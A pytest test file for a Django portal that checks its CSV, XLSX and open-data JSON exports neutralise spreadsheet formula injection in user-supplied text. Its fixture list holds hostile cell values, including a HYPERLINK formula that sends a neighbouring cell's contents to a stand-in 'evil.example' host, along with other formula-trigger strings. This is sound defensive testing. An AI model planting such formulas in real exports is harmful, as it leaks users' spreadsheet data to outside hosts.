"""Hostile text through every CSV and XLSX file the portal produces (and the open-data JSON), parsed back.

The text comes from where users and imports put it: a cooperative's name, an offer's title, a representative's
text answer to a survey, a wave's name, a training registrant's first name, territorial-unit names (imported from
the TERC file). In XLSX it must stay text (never a formula or an error value, characters XML cannot hold removed,
never a 500); in CSV a cell must never start with a formula trigger (= + - @ tab CR) unless behind an apostrophe
(core.streaming.csv_text); JSON keeps it exactly.
"""

import csv
import io
import json
from urllib.parse import parse_qsl

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from accounts.roles import MINISTRY_STAFF
from cooperatives.models import TerritorialUnit
from monitoring.models import Answer, Question, Response
from tests.cooperatives.factories import CooperativeFactory, OfferFactory
from tests.factories import UserFactory, with_totp
from tests.monitoring.conftest import make_wave
from tests.monitoring.test_services import save
from tests.trainings.factories import EnrolmentFactory, ParticipantFactory, completed_training_with_attendance

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B2,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "Ala\x07ma",
    "pierwsza linia\n=druga linia\r\n@trzecia",
    "#N/A",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def as_csv_cell(text: str) -> str:
    """What the CSV must hold for `text` (written out here rather than taken from the code under test)."""
    return "'" + text if text[:1] in TRIGGERS else text


def as_xlsx_cell(text: str) -> str:
    """Characters XML cannot hold removed; line ends as line feeds (XML reads any line end as one)."""
    return text.replace("\x07", "").replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture
def hostile(client):
    """Every text source filled with the hostile values; returns the staff user's client, signed in."""
    staff = UserFactory()
    staff.groups.add(Group.objects.get_or_create(name=MINISTRY_STAFF)[0])
    with_totp(staff)
    cooperatives = [CooperativeFactory(name=text, gmina_id="1061011") for text in HOSTILE]
    for cooperative, text in zip(cooperatives, HOSTILE, strict=True):
        OfferFactory(cooperative=cooperative, title=text)

    wave = make_wave(name=HOSTILE[0])
    reason = Question.objects.get(wave=wave, code="inactivity_reason")
    for cooperative, text in zip(cooperatives, HOSTILE, strict=True):
        save(wave, cooperative, staff, submit=True, as_staff=True)
        response = Response.objects.get(wave=wave, cooperative=cooperative)
        Answer.objects.update_or_create(response=response, question=reason, defaults={"text_value": text})

    training, _sessions, _enrolments = completed_training_with_attendance(sessions=1, attended=[1])
    for text in HOSTILE:
        EnrolmentFactory(training=training, participant=ParticipantFactory(first_name=text))
    # One completed training with an eligible participant in a gmina of each renamed powiat (cities with powiat
    # rights: the reports show their names as they are, other powiats as "pow. <name>").
    cities = TerritorialUnit.objects.powiats().filter(kind_name__startswith="miasto").order_by("code")
    gminas = {}
    for gmina, powiat in (
        TerritorialUnit.objects.gminas().filter(parent__in=cities).order_by("code").values_list("code", "parent_id")
    ):
        gminas.setdefault(powiat, gmina)
        if len(gminas) == len(HOSTILE):
            break
    for (powiat, gmina), text in zip(gminas.items(), HOSTILE, strict=True):
        TerritorialUnit.objects.filter(code=powiat).update(name=text)
        completed_training_with_attendance(sessions=1, attended=[1], gmina_id=gmina)

    client.force_login(staff)
    return {"client": client, "wave": wave, "training": training}


# name, URL (from the fixture's objects and the format), query, the hostile values that must come out
EXPORTS = [
    ("open data: cooperatives", lambda o, fmt: f"/open-data/cooperatives.{fmt}", {}, HOSTILE),
    ("open data: offers", lambda o, fmt: f"/open-data/offers.{fmt}", {}, HOSTILE),
    (
        "microdata of a wave",
        lambda o, fmt: reverse("monitoring:microdata", args=[o["wave"].pk]) + f"?format={fmt}",
        {},
        HOSTILE,
    ),
    ("microdata of all waves", lambda o, fmt: reverse("monitoring:microdata-all") + f"?format={fmt}", {}, HOSTILE),
    (
        "statistics table",
        lambda o, fmt: reverse("monitoring:export", args=[o["wave"].pk]) + f"?format={fmt}",
        {"indicator": "employment"},
        HOSTILE[:1],  # the wave's name, in the metadata
    ),
    (
        "training participants",
        lambda o, fmt: reverse("trainings:participants-export", args=[o["training"].pk, fmt]),
        {},
        HOSTILE,
    ),
    (
        "training report by group",
        lambda o, fmt: reverse("trainings:reports-export", args=["grupy", fmt]),
        {"dimension": "powiat"},
        HOSTILE,
    ),
    (
        "training report by powiat",
        lambda o, fmt: reverse("trainings:reports-export", args=["powiaty", fmt]),
        {},
        HOSTILE,
    ),
]
CASES = [
    *(
        pytest.param(name, url, query, expected, fmt, id=f"{name} ({fmt})")
        for name, url, query, expected in EXPORTS
        for fmt in ("csv", "xlsx")
    ),
    *(
        pytest.param(name, url, query, expected, fmt, id=f"{name} ({fmt})")
        for name, url, query, expected in EXPORTS[:2]
        for fmt in ("json", "geojson")
        if (name, fmt) != ("open data: offers", "geojson")
    ),
]


def download(hostile, url, query, fmt) -> bytes:
    path, _mark, query_string = url(hostile, fmt).partition("?")
    response = hostile["client"].get(path, {**dict(parse_qsl(query_string)), **query})
    assert response.status_code == 200, path
    return b"".join(response.streaming_content) if response.streaming else response.content


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


@pytest.mark.parametrize(("name", "url", "query", "expected", "fmt"), CASES)
def test_hostile_text_stays_text_in_every_export(hostile, name, url, query, expected, fmt):
    content = download(hostile, url, query, fmt)
    if fmt == "csv":
        text = content.decode("utf-8")
        assert text.startswith("\ufeff")
        cells = [cell for row in csv.reader(io.StringIO(text[1:], newline="")) for cell in row]
        live = [cell for cell in cells if cell.startswith(TRIGGERS)]
        assert not live, f"{name}: cells a spreadsheet would run: {live}"
        missing = [text for text in expected if as_csv_cell(text) not in cells]
        assert not missing, f"{name}: texts not written (behind an apostrophe where needed): {missing}"
    elif fmt == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        live = [(cell.coordinate, cell.value) for cell in cells if cell.data_type in ("f", "e")]
        assert not live, f"{name}: formula or error cells: {live}"
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        missing = [text for text in expected if as_xlsx_cell(text) not in texts]
        assert not missing, f"{name}: texts not written as text cells: {missing}"
    else:
        found = set(strings(json.loads(content)))
        missing = [text for text in expected if text not in found]
        assert not missing, f"{name}: texts not kept exactly: {missing}"
